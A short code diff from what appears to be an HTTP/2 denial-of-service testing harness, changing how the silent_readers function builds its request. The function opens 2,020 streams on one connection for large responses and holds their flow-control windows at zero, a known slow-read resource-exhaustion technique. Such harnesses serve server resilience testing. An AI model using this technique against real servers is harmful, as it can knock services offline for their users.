@@ -22,10 +22,8 @@ LOOK_INTERVAL = 0.5
 
 async def silent_readers(target: AttackTarget, observed: Observed) -> None:
     """Ask for 2,020 large responses on one HTTP/2 connection and leave their windows at 0 bytes."""
-    path = target.large
-    await hold_streams(
-        target, observed, STREAMS, lambda client: client.request(target, "GET", path, end=True), window=0
-    )
+    message = bytes.fromhex(target.large_request)
+    await hold_streams(target, observed, STREAMS, lambda client: client.ask(target, target.large, message), window=0)
 
 
 async def silent_readers_http1(target: AttackTarget, observed: Observed) -> None:
